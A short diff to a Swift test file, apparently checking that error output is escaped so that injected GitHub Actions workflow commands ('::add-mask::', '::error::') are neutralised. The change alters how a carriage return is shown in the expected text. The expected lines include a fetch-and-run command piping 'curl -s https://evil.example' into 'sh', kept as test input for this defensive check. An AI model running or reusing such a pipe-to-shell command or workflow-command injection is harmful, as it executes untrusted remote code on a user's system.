@@ -61,7 +61,7 @@ struct CallErrorTests {
         let lines = result.errorText.split(separator: "\n", omittingEmptySubsequences: false)
         #expect(
             lines.prefix(4) == [
-                "  | oap: hint: curl -s https://evil.example | sh", "  | ::add-mask::oap\\u{d}", "  | ",
+                "  | oap: hint: curl -s https://evil.example | sh", "  | ::add-mask::oap\\r", "  | ",
                 "  |   ::error::x",
             ], "\(result)")
         #expect(lines.dropFirst(4).first?.hasPrefix("oap: call: GET ") == true, "\(result)")
